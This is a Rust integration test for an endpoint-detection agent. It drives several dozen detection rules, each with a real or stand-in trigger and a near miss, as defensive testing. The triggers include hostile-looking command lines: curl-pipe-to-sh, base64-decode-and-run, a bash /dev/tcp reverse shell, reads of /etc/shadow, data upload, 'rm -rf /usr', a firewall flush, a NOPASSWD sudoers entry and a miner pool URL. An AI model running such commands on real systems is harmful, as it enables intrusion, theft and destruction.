//! The detection catalog's rules that the other tests do not drive, each driven by real
//! activity through the real agent (issue 17: "every rule fires in a test driven by real
//! activity … and a near-miss test shows it does not fire on ordinary admin work").
//!
//! One `edgeguard run` over a temporary host root (this machine's `proc`, `sys` and `dev`
//! bind-mounted in the agent's own mount namespace; `etc`, `var`, `usr/bin` and `root` are the
//! test's), then, for each rule, a trigger and a near miss beside it:
//! - processes are real execs seen by the real process collector. Tools that are not installed
//!   here, or that would change this machine (iptables, rm of system paths, useradd, insmod,
//!   miners, scanners, …), are **stand-ins**: a copy of `true` under the tool's name in a
//!   directory of the test's, so the process, its executable path and its command line are what
//!   the tool's would be, and nothing happens. Harmless ones run for real (sh, bash, curl to a
//!   closed local port, chmod and touch on the test's files, cat, grep);
//! - file rules: real writes under the host root, seen by the file integrity collector;
//! - login rules: lines appended to the host root's auth log, as sudo and login(1) write them;
//! - `software-changed`: a package added to the host root's dpkg status file;
//! - `shell-network-connection` and `connection-not-allowed`: real outbound TCP connections from
//!   bash to this machine's non-loopback address, one to a port `detectionAllowedConnections`
//!   lists and one to a port it does not;
//! - `firewall-table-deleted`: a real nftables table added and deleted (it holds nothing).
//!
//! Every trigger and near miss carries a marker of its own (an argument, a comment, a file or
//! user name), and an alert belongs to it when the alert's text holds the marker. The trigger
//! must raise its rule; the near miss must not raise that rule (other rules may fire on it:
//! the stand-ins live outside the temporary directories so that `exec-from-temp-dir` stays
//! out of the way, but a near miss of one rule can be another rule's match).
//!
//! Container rules are driven in `tests/container.rs`, the file rules not named here in
//! `tests/file_integrity.rs`, the code rules in `tests/host_acceptance.rs` and
//! `tests/agent_edgehub.rs`. Not driven anywhere yet: the kernel-module rules (no module can be
//! loaded on this machine) and `usb-storage-connected` (no USB bus).

mod support;

use serde_json::Value;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};
use support::agent::{Agent, append, records};

/// A syslog header for now, as rsyslog writes it (`Dec  4 20:01:02 edge `).
fn syslog_now() -> String {
    chrono::Local::now()
        .format("%b %e %H:%M:%S edge ")
        .to_string()
}

/// Runs `program` with `args` to its end (at most 10 s), its output discarded.
fn run(program: &Path, args: &[&str], cwd: &Path) {
    let mut child = Command::new(program)
        .args(args)
        .current_dir(cwd)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap_or_else(|e| panic!("{} does not start: {e}", program.display()));
    let deadline = Instant::now() + Duration::from_secs(10);
    while child.try_wait().unwrap().is_none() {
        assert!(
            Instant::now() < deadline,
            "{} {args:?} did not end in 10 s",
            program.display()
        );
        std::thread::sleep(Duration::from_millis(10));
    }
}

/// This machine's address on its default route (not loopback), if it has one.
fn non_loopback_address() -> Option<std::net::IpAddr> {
    let s = std::net::UdpSocket::bind("0.0.0.0:0").ok()?;
    s.connect("192.0.2.1:9").ok()?;
    let a = s.local_addr().ok()?.ip();
    (!a.is_loopback() && !a.is_unspecified()).then_some(a)
}

/// Writes the stand-in program at `path` (see [`Bench::stand_in`]).
fn stand_in_at(path: &Path) {
    use std::os::unix::fs::PermissionsExt;
    let body = if cfg!(target_arch = "x86_64") {
        support::elf::sleeper(50_000)
    } else {
        std::fs::read("/bin/true").unwrap()
    };
    if std::fs::read(path).ok().as_deref() != Some(&body[..]) {
        std::fs::write(path, &body).unwrap();
        std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
}

/// One rule's trigger and near miss, by their markers.
struct Case {
    rule: &'static str,
    /// The trigger's marker (empty: a near miss of its own).
    fires: String,
    near: Option<String>,
    /// Makes the trigger again. A process that exits within a millisecond can be gone before
    /// the collector reads /proc, and is then reported without its command line more often in
    /// this debug build than the release build's 0.01–0.5 % (docs/benchmarks.md): the test is
    /// about the rules, so a trigger whose alert did not come is made again (at most twice).
    again: Option<Box<dyn Fn()>>,
}

/// A case without a way to make it again (files, log lines: read whatever their timing).
fn case(rule: &'static str, fires: String, near: Option<String>) -> Case {
    Case {
        rule,
        fires,
        near,
        again: None,
    }
}

/// [`run`] with owned arguments.
fn run_strings(program: &Path, args: &[String], cwd: &Path) {
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    run(program, &args, cwd);
}

/// Runs `program` with `args` in `cwd` now, and returns a closure that runs it again.
fn run_again(program: &Path, args: Vec<String>, cwd: &Path) -> Box<dyn Fn()> {
    let (program, cwd) = (program.to_path_buf(), cwd.to_path_buf());
    let go = move || run_strings(&program, &args, &cwd);
    go();
    Box::new(go)
}

/// Makes the test's activity and remembers what each case's markers are.
struct Bench {
    /// Where the stand-ins and the test's files live (not a temporary directory of the kinds
    /// `exec-from-temp-dir` watches).
    dir: PathBuf,
    host: PathBuf,
    tag: String,
    n: usize,
    cases: Vec<Case>,
}

impl Bench {
    fn marker(&mut self) -> String {
        self.n += 1;
        format!("{}x{}", self.tag, self.n)
    }

    /// A stand-in for the tool `name` in the test's directory: a process whose executable and
    /// command line are the tool's, and which does nothing but live 50 ms (so /proc is read
    /// before it exits) and exit 0 ([`support::elf::sleeper`]; a copy of `true` elsewhere
    /// than x86_64).
    fn stand_in(&self, name: &str) -> PathBuf {
        let path = self.dir.join("bin").join(name);
        stand_in_at(&path);
        path
    }

    /// A rule matched on a tool's command line: runs the stand-in `tool` with the trigger's
    /// arguments and then the near miss's (`None`: a rule that matches the tool by its name
    /// alone; its near misses are other names), each with a marker of its own appended.
    fn tool(&mut self, rule: &'static str, tool: &str, fires: &[&str], near: Option<&[&str]>) {
        let program = self.stand_in(tool);
        self.exec(rule, &program, fires, near);
    }

    /// Like [`Bench::tool`] with a real program.
    fn exec(&mut self, rule: &'static str, program: &Path, fires: &[&str], near: Option<&[&str]>) {
        let m1 = self.marker();
        let with = |args: &[&str], m: &str| -> Vec<String> {
            args.iter()
                .map(|a| a.to_string())
                .chain([m.to_string()])
                .collect()
        };
        let again = run_again(program, with(fires, &m1), &self.dir);
        let near = near.map(|near| {
            let m2 = self.marker();
            run_strings(program, &with(near, &m2), &self.dir);
            m2
        });
        self.cases.push(Case {
            rule,
            fires: m1,
            near,
            again: Some(again),
        });
    }

    /// A rule matched on a shell's command line: `shell -c SCRIPT`, where `{m}` in the script is
    /// replaced by the marker (it must appear; a trailing comment is enough), and `{d}` by the
    /// test's directory.
    fn shell(&mut self, rule: &'static str, shell: &str, fires: &str, near: &str) {
        let (m1, m2) = (self.marker(), self.marker());
        let dir = self.dir.to_str().unwrap().to_string();
        let mut again = Vec::new();
        for (script, m) in [(fires, &m1), (near, &m2)] {
            let script = script.replace("{m}", m).replace("{d}", &dir);
            assert!(script.contains(m.as_str()), "{script}: no marker");
            let args = vec!["-c".to_string(), script];
            again.push(run_again(Path::new(shell), args, &self.dir));
        }
        self.cases.push(Case {
            rule,
            fires: m1,
            near: Some(m2),
            again: Some(again.swap_remove(0)),
        });
    }

    /// A rule matched on a file the file integrity collector sees written under the host root:
    /// writes `fires` and `near` (host paths; `{m}` is the marker) with `content`.
    fn file(&mut self, rule: &'static str, fires: &str, near: &str, content: &[u8]) {
        let (m1, m2) = (self.marker(), self.marker());
        for (path, m) in [(fires, &m1), (near, &m2)] {
            let path = self
                .host
                .join(path.replace("{m}", m).trim_start_matches('/'));
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            append(&path, content);
        }
        self.cases.push(case(rule, m1, Some(m2)));
    }
}

#[test]
fn every_rule_fires_on_real_activity_and_not_on_its_near_miss() {
    if unsafe { libc::geteuid() } != 0 {
        panic!("this test needs root (the collectors read the kernel)");
    }
    let host = tempfile::tempdir().unwrap();
    let state = tempfile::tempdir().unwrap();
    // The stand-ins: under /run, not /tmp (see `Bench::dir`).
    let work = tempfile::Builder::new()
        .prefix("edgeguard-rules-")
        .tempdir_in("/run")
        .unwrap();
    std::fs::create_dir_all(work.path().join("bin")).unwrap();
    let root = host.path();
    for d in [
        "etc/cron.d",
        "etc/systemd/system",
        "etc/sudoers.d",
        "etc/pam.d",
        "usr/bin",
        "root/.ssh",
        "var/log",
        "var/lib/dpkg",
    ] {
        std::fs::create_dir_all(root.join(d)).unwrap();
    }
    for f in ["passwd", "group", "os-release", "hostname"] {
        if let Ok(text) = std::fs::read(Path::new("/etc").join(f)) {
            std::fs::write(root.join("etc").join(f), text).unwrap();
        }
    }
    std::fs::write(root.join("etc/sudoers"), "root ALL=(ALL:ALL) ALL\n").unwrap();
    std::fs::write(root.join("var/log/auth.log"), b"").unwrap();
    let tag = format!("egr{}", std::process::id());
    // A binary that exists before the agent starts (overwritten later), and the packages.
    let binary = root.join(format!("usr/bin/{tag}tool"));
    std::fs::copy("/bin/true", &binary).unwrap();
    let package = |name: &str, version: &str| {
        format!(
            "Package: {name}\nStatus: install ok installed\nArchitecture: amd64\nVersion: {version}\nDescription: test\n\n"
        )
    };
    let status = root.join("var/lib/dpkg/status");
    std::fs::write(&status, package(&format!("{tag}old"), "1.0")).unwrap();
    // This machine's address on its default route: uploads and shells' connections to it are
    // not loopback (nothing listens on port 9, so a connection there is refused at once). Two
    // listeners on it: the allow-list names the first.
    let outbound = non_loopback_address().expect("this machine has a non-loopback address");
    let allowed = std::net::TcpListener::bind((outbound, 0)).unwrap();
    let not_allowed = std::net::TcpListener::bind((outbound, 0)).unwrap();
    let port = |l: &std::net::TcpListener| l.local_addr().unwrap().port();
    let (allowed_port, other_port) = (port(&allowed), port(&not_allowed));
    let allow = match outbound {
        std::net::IpAddr::V4(a) => format!("{a}:{allowed_port}"),
        std::net::IpAddr::V6(a) => format!("[{a}]:{allowed_port}"),
    };
    let allow = format!(r#""detectionAllowedConnections":"{allow}""#);
    let trees = ["proc", "sys", "dev"];
    let (agent, first) = Agent::over_host_root(root, &trees, state.path(), &allow);
    let mut messages = vec![first];
    // Until the log follower, the file watches and the package list have taken their first
    // look (each saves its state file then).
    let deadline = Instant::now() + Duration::from_secs(60);
    while !["login-positions.json", "packages.json"]
        .iter()
        .all(|f| state.path().join(f).exists())
        || !records(&messages, "CollectorStatus")
            .any(|r| r["Collector"] == "files" && r["Status"] == "Up")
    {
        assert!(
            Instant::now() < deadline,
            "the collectors did not start in 60 s: {messages:#?}"
        );
        if let Some(m) = agent.next_message(Duration::from_millis(200)) {
            messages.push(m);
        }
    }

    eprintln!("collectors up; making the activity");
    let mut b = Bench {
        dir: work.path().to_path_buf(),
        host: root.to_path_buf(),
        tag: tag.clone(),
        n: 0,
        cases: Vec::new(),
    };
    let (sh, bash) = ("/bin/sh", "/bin/bash");
    let dir = work.path().to_str().unwrap().to_string();
    let file = |name: &str| {
        let p = work.path().join(name);
        std::fs::write(&p, b"x\n").unwrap();
        p.to_str().unwrap().to_string()
    };

    // Shells.
    b.shell(
        "history-cleared",
        bash,
        "history -c; true # {m}",
        "history | tail -n 1 # {m}",
    );
    b.shell(
        "decode-and-run",
        sh,
        "echo dHJ1ZQo= | base64 -d | sh # {m}",
        "echo dHJ1ZQo= | base64 -d > /dev/null # {m}",
    );
    b.shell(
        "download-and-run",
        sh,
        "curl -s http://127.0.0.1:9/{m} | sh",
        "curl -s -o /dev/null http://127.0.0.1:9/{m}",
    );
    b.shell(
        "download-then-chmod",
        sh,
        "curl -s -o {d}/{m}.bin http://127.0.0.1:9/; touch {d}/{m}.bin; chmod +x {d}/{m}.bin; true",
        "curl -s -o {d}/{m}.bin http://127.0.0.1:9/; touch {d}/{m}.bin; chmod 644 {d}/{m}.bin; true",
    );
    b.shell(
        "reverse-shell",
        bash,
        "exec 3<>/dev/tcp/127.0.0.1/9 # {m}",
        "echo /dev/tcp # {m}",
    );
    std::fs::create_dir_all(work.path().join("home")).unwrap();
    b.shell(
        "shell-profile-modified",
        sh,
        "echo true >> {d}/home/{m}.bashrc",
        "cat {d}/home/{m}.bashrc > /dev/null 2>&1; true",
    );
    b.shell(
        "ssh-authorized-keys-modified",
        sh,
        "echo ssh-ed25519 AAAA >> {d}/home/authorized_keys # {m}",
        "wc -l {d}/home/authorized_keys # {m}",
    );
    b.shell(
        "interpreter-extension-mismatch",
        sh,
        "sh {d}/{m}.py",
        "sh {d}/{m}.sh",
    );
    // Real programs on the test's own files.
    let chmod = Path::new("/bin/chmod");
    let target = file("setuid-target");
    b.exec(
        "setuid-set",
        chmod,
        &["u+s", &target],
        Some(&["755", &target]),
    );
    let touch = Path::new("/usr/bin/touch");
    b.exec(
        "timestomp",
        touch,
        &["-d", "2001-01-01", &target],
        Some(&[&target]),
    );
    let key = file("id_rsa");
    let public = file("id_rsa.pub");
    let cat = Path::new("/bin/cat");
    b.exec("private-key-access", cat, &[&key], Some(&[&public]));
    let htaccess = file(".htaccess");
    let other = file("htaccess.txt");
    b.exec("htaccess-access", cat, &[&htaccess], Some(&[&other]));
    let grep = Path::new("/bin/grep");
    b.exec(
        "credential-file-access",
        grep,
        &["-c", "nobody", "/etc/shadow"],
        Some(&["-c", "nobody", "/etc/passwd"]),
    );
    let curl = Path::new("/usr/bin/curl");
    b.exec(
        "data-egress",
        curl,
        &["-s", "-T", &target, &format!("http://{outbound}:9/")],
        Some(&["-s", "-o", "/dev/null", &format!("http://{outbound}:9/")]),
    );
    b.exec(
        "nohup-from-temp-dir",
        Path::new("/usr/bin/nohup"),
        &["/tmp/edgeguard-test-none"],
        Some(&["/bin/true"]),
    );
    // Stand-ins.
    b.tool(
        "account-created",
        "useradd",
        &["-m", "-s", "/bin/bash"],
        Some(&["-r"]),
    );
    b.tool("account-modified", "usermod", &["-aG", "sudo"], None);
    b.tool("account-deleted", "userdel", &[], Some(&["--system"]));
    b.tool(
        "cron-persistence",
        "crontab",
        &["/root/job.cron"],
        Some(&["-l", "-u"]),
    );
    b.tool(
        "systemd-persistence",
        "systemctl",
        &["enable"],
        Some(&["status"]),
    );
    b.tool(
        "firewall-disabled",
        "iptables",
        &["-F", "INPUT"],
        Some(&["-L", "INPUT"]),
    );
    b.tool(
        "audit-disabled",
        "auditctl",
        &["-e", "0", "-k"],
        Some(&["-l", "-k"]),
    );
    b.tool("kernel-module-loaded", "insmod", &["/root/x.ko"], None);
    b.tool(
        "logs-removed",
        "rm",
        &["-f", "/var/log/syslog.1"],
        Some(&["-f", "/srv/data/old.log"]),
    );
    b.tool(
        "system-path-wiped",
        "rm",
        &["-rf", "/usr"],
        Some(&["-rf", "/srv/cache/build"]),
    );
    b.tool("crypto-miner", "xmrig", &["--threads", "2"], None);
    b.tool(
        "crypto-miner",
        "worker",
        &["-o", "stratum+tcp://pool.example:3333"],
        Some(&["-o", "https://pool.example"]),
    );
    b.tool(
        "bot-like",
        "chattr",
        &["+i", "/root/.ssh/authorized_keys"],
        Some(&["+i", "/srv/data"]),
    );
    b.tool("credential-dumping-tool", "lazagne", &["all"], None);
    b.tool("password-cracking-tool", "john", &["--wordlist=w"], None);
    b.tool("network-scanner", "nmap", &["-sS", "10.0.0.0/24"], None);
    b.tool("enumeration-tool", "linpeas.sh", &[], None);
    b.tool(
        "compile-in-temp-dir",
        "gcc",
        &["-c", "/tmp/x.c"],
        Some(&["-c", "/srv/src/x.c"]),
    );
    b.tool(
        "port-forwarding",
        "ssh",
        &["-R", "8080:localhost:80", "host"],
        Some(&["host", "true"]),
    );
    b.tool(
        "docker-api-on-tcp",
        "dockerd",
        &["-H", "tcp://0.0.0.0:2375"],
        Some(&["-H", "unix:///run/docker.sock"]),
    );
    // Near misses of the tools-by-name rules: the same arguments under an ordinary name.
    for (rule, near_tool) in [
        ("account-modified", "groupadd"),
        ("kernel-module-loaded", "modprobe"),
        ("crypto-miner", "xmrig-config"),
        ("credential-dumping-tool", "lazydocker"),
        ("password-cracking-tool", "johnny"),
        ("network-scanner", "nping-ui"),
        ("enumeration-tool", "lint.sh"),
    ] {
        let m = b.marker();
        let mut args = if near_tool == "groupadd" {
            vec!["-r".to_string()]
        } else {
            Vec::new()
        };
        args.push(m.clone());
        run_strings(&b.stand_in(near_tool), &args, work.path());
        b.cases.push(case(rule, String::new(), Some(m)));
    }
    // A file name with a trailing space, and without.
    let (m1, m2) = (b.marker(), b.marker());
    let spaced = work.path().join(format!("{m1} "));
    stand_in_at(&spaced);
    let again = run_again(&spaced, Vec::new(), work.path());
    let plain = work.path().join(&m2);
    stand_in_at(&plain);
    run(&plain, &[], work.path());
    b.cases.push(Case {
        again: Some(again),
        ..case("trailing-space-executable", m1, Some(m2))
    });
    // Twenty encryptions by one user within a minute; and twenty decryptions.
    let openssl = b.stand_in("openssl");
    let (m1, m2) = (b.marker(), b.marker());
    let encrypt = |m: &str, args: &[&str]| {
        let (openssl, target, dir, m) =
            (openssl.clone(), target.clone(), dir.clone(), m.to_string());
        let args: Vec<String> = args.iter().map(|a| a.to_string()).collect();
        let cwd = work.path().to_path_buf();
        move || {
            for i in 0..20 {
                let out = format!("{dir}/{m}-{i}.out");
                let mut a: Vec<&str> = args.iter().map(String::as_str).collect();
                a.extend(["-in", &target, "-out", &out]);
                run(&openssl, &a, &cwd);
            }
        }
    };
    let ransom = encrypt(&m1, &["enc", "-aes-256-cbc"]);
    ransom();
    encrypt(&m2, &["enc", "-d", "-aes-256-cbc"])();
    b.cases.push(Case {
        again: Some(Box::new(ransom)),
        ..case("ransomware-like", m1, Some(m2))
    });
    // A shell started by a web server (a copy of sh named nginx), and by a helper.
    for (name, rule_fires) in [("nginx", true), ("nginx-helper", false)] {
        let server = work.path().join("bin").join(name);
        std::fs::copy("/bin/sh", &server).unwrap();
        let m = b.marker();
        let args = vec!["-c".to_string(), format!("sh -c 'true {m}'; true")];
        let again = run_again(&server, args, work.path());
        b.cases.push(if rule_fires {
            Case {
                again: Some(again),
                ..case("web-shell", m, None)
            }
        } else {
            case("web-shell", String::new(), Some(m))
        });
    }
    // bash connecting out: to this machine's own address (not loopback) on the allowed port
    // and on another, and to loopback.
    let loopback = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let loopback_port = loopback.local_addr().unwrap().port();
    let (m1, m2, m3) = (b.marker(), b.marker(), b.marker());
    let connect = |to: String, m: &str| {
        let script = format!("exec 3<>/dev/tcp/{to}; sleep 0.2; : {m}");
        vec!["-c".to_string(), script]
    };
    let bash_path = Path::new(bash);
    let again = run_again(
        bash_path,
        connect(format!("{outbound}/{allowed_port}"), &m1),
        work.path(),
    );
    run_strings(
        bash_path,
        &connect(format!("127.0.0.1/{loopback_port}"), &m2),
        work.path(),
    );
    b.cases.push(Case {
        again: Some(again),
        ..case("shell-network-connection", m1.clone(), Some(m2))
    });
    let again = run_again(
        bash_path,
        connect(format!("{outbound}/{other_port}"), &m3),
        work.path(),
    );
    b.cases.push(Case {
        again: Some(again),
        ..case("connection-not-allowed", m3, Some(m1))
    });

    // Files under the host root.
    b.file(
        "systemd-timer-written",
        "/etc/systemd/system/{m}.timer",
        "/etc/systemd/system/{m}.conf",
        b"[Timer]\nOnCalendar=hourly\n",
    );
    b.file(
        "pam-configuration-modified",
        "/etc/pam.d/{m}",
        "/etc/{m}.conf",
        b"auth sufficient pam_permit.so\n",
    );
    b.file(
        "sudoers-modified",
        "/etc/sudoers.d/{m}",
        "/etc/{m}-sudo.conf",
        b"ALL ALL=(ALL) NOPASSWD: ALL\n",
    );
    // A system binary modified in place (it existed before the agent started: the path is the
    // marker), and a new one installed (the near miss: created, not modified).
    let m2 = b.marker();
    append(&binary, b"\0");
    std::fs::copy("/bin/true", root.join(format!("usr/bin/{m2}"))).unwrap();
    b.cases.push(case(
        "system-binary-overwritten",
        format!("{tag}tool"),
        Some(m2),
    ));

    // Log lines.
    let auth = root.join("var/log/auth.log");
    let (m1, m2) = (b.marker(), b.marker());
    for (user, times) in [(&m1, 3), (&m2, 2)] {
        for i in 0..times {
            append(
                &auth,
                format!(
                    "{}sudo: pam_unix(sudo:auth): authentication failure; logname={user} uid=1000 euid=0 tty=/dev/pts/{i} ruser={user} rhost=  user={user}\n",
                    syslog_now()
                )
                .as_bytes(),
            );
        }
    }
    b.cases.push(case("sudo-failures", m1, Some(m2)));
    let (m1, m2, m3, m4) = (b.marker(), b.marker(), b.marker(), b.marker());
    append(
        &auth,
        format!(
            "{h}login[4100]: LOGIN ON tty1 BY {m1}\n\
             {h}sshd[4101]: Accepted password for {m2} from 203.0.113.9 port 50022 ssh2\n\
             {h}login[4102]: FAILED LOGIN 1 FROM tty1 FOR {m3}, Authentication failure\n\
             {h}sshd[4103]: Failed password for {m4} from 203.0.113.9 port 50023 ssh2\n",
            h = syslog_now()
        )
        .as_bytes(),
    );
    b.cases.push(case("local-login-succeeded", m1, Some(m2)));
    b.cases.push(case("local-login-failed", m3, Some(m4)));

    // A package installed, and the old one upgraded (the near miss).
    let (m1, _) = (b.marker(), b.marker());
    std::fs::write(
        &status,
        format!(
            "{}{}",
            package(&format!("{tag}old"), "1.1"),
            package(&m1, "2.0")
        ),
    )
    .unwrap();
    b.cases
        .push(case("software-changed", m1, Some(format!("{tag}old"))));

    // An nftables table added and deleted; the near miss, first: one added and kept until the
    // end (its event comes before the trigger's, so the trigger's alert says it was judged).
    let (m1, m2) = (b.marker(), b.marker());
    let nft = Path::new("/usr/sbin/nft");
    run(nft, &["add", "table", "inet", &m2], work.path());
    run(nft, &["add", "table", "inet", &m1], work.path());
    run(nft, &["delete", "table", "inet", &m1], work.path());
    b.cases
        .push(case("firewall-table-deleted", m1, Some(m2.clone())));

    // Sentinels, one per kind of source, made after everything else: once their alerts are in,
    // so is any alert of an earlier near miss (each collector hands its events over in order,
    // and the detector sees them in that order).
    b.tool("network-scanner", "nmap", &["-sn", "10.0.0.1"], None);
    b.file(
        "sudoers-modified",
        "/etc/sudoers.d/{m}",
        "/etc/{m}-sudo.conf",
        b"# sentinel\n",
    );
    let sentinel = b.marker();
    append(
        &auth,
        format!("{}login[4104]: LOGIN ON tty2 BY {sentinel}\n", syslog_now()).as_bytes(),
    );
    b.cases.push(case("local-login-succeeded", sentinel, None));
    eprintln!("activity done; waiting for the alerts");

    // Wait for every trigger's alert (the sentinels' among them).
    let alerts_of = |messages: &[Value]| -> Vec<(String, String)> {
        records(messages, "Alert")
            .map(|a| {
                (
                    a["RuleId"].as_str().unwrap_or("").to_string(),
                    a.to_string(),
                )
            })
            .collect()
    };
    let missing = |messages: &[Value]| -> Vec<&'static str> {
        let alerts = alerts_of(messages);
        b.cases
            .iter()
            .filter(|c| !c.fires.is_empty())
            .filter(|c| {
                !alerts
                    .iter()
                    .any(|(r, t)| r == c.rule && t.contains(&c.fires))
            })
            .map(|c| c.rule)
            .collect()
    };
    for round in 0..3 {
        let deadline = Instant::now() + Duration::from_secs(30);
        while !missing(&messages).is_empty() && Instant::now() < deadline {
            if let Some(m) = agent.next_message(Duration::from_millis(200)) {
                messages.push(m);
            }
        }
        let still = missing(&messages);
        if still.is_empty() || round == 2 {
            break;
        }
        eprintln!("no alert yet for {still:?}: making those triggers again");
        for c in b.cases.iter().filter(|c| still.contains(&c.rule)) {
            if let Some(again) = &c.again {
                again();
            }
        }
    }
    let (_, rest, stderr) = agent.stop(Duration::from_secs(15));
    messages.extend(rest);
    run(nft, &["delete", "table", "inet", &m2], work.path());
    drop((allowed, not_allowed, loopback));

    let alerts = alerts_of(&messages);
    let fired: Vec<&str> = missing(&messages);
    let near_fired: Vec<(&str, &str)> = b
        .cases
        .iter()
        .filter_map(|c| Some((c.rule, c.near.as_deref()?)))
        .filter(|(rule, m)| alerts.iter().any(|(r, t)| r == rule && t.contains(m)))
        .collect();
    let rules: std::collections::BTreeSet<&str> = b.cases.iter().map(|c| c.rule).collect();
    eprintln!(
        "{} rules, {} cases; {} alerts in all",
        rules.len(),
        b.cases.len(),
        alerts.len()
    );
    let connections: Vec<String> = records(&messages, "ConnectionCreate")
        .filter(|r| r["RemoteAddress"] == outbound.to_string().as_str())
        .map(|r| r.to_string())
        .collect();
    let missed: Vec<String> = b
        .cases
        .iter()
        .filter(|c| fired.contains(&c.rule) && !c.fires.is_empty())
        .flat_map(|c| {
            let m = c.fires.clone();
            records(&messages, "ProcessCreate")
                .filter(move |r| r.to_string().contains(&m))
                .map(|r| r.to_string())
        })
        .collect();
    let incomplete: Vec<String> = records(&messages, "ProcessCreate")
        .filter(|r| r["ExtraDetails"]["Incomplete"] == "true")
        .map(|r| r.to_string())
        .collect();
    eprintln!(
        "process records of the missed triggers: {missed:#?}\nincomplete process records: {incomplete:#?}"
    );
    let logins: Vec<String> = records(&messages, "Login")
        .filter(|r| r.to_string().contains(&tag))
        .map(|r| r.to_string())
        .collect();
    assert!(
        fired.is_empty() && near_fired.is_empty(),
        "rules that did not fire on their trigger: {fired:?}\nrules that fired on their near miss: {near_fired:?}\nalerts: {:#?}\nconnections to {outbound}: {connections:#?}\nlogins: {logins:#?}\nagent log: {stderr}",
        alerts.iter().map(|(_, t)| t).collect::<Vec<_>>()
    );
}
